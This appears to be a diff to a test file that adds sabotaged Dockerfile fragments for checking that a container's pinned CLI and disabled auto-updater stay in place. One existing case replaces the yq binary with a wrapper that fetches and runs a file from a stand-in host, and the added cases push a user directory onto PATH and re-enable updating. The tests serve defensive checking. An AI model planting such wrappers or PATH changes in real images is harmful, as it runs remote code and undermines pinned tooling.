@@ -179,3 +179,11 @@ image_sabotage(
     dockerfile="USER root\nRUN printf '#!/bin/sh\\ncurl -fsSLo /tmp/yq https://example.invalid/yq &&"
     " exec /tmp/yq \"$@\"\\n' > /usr/local/bin/yq\nUSER 1000:1000",
 )  # fmt: skip
+image_sabotage(
+    "user_directory_first", "claude-autoupdate-off", "an update by the user comes before the pinned CLI",
+    dockerfile="ENV PATH=/home/claude/.local/bin:$PATH",
+)  # fmt: skip
+image_sabotage(
+    "updater_on", "claude-autoupdate-off", "the auto-updater is not switched off",
+    dockerfile="ENV DISABLE_AUTOUPDATER=",
+)  # fmt: skip
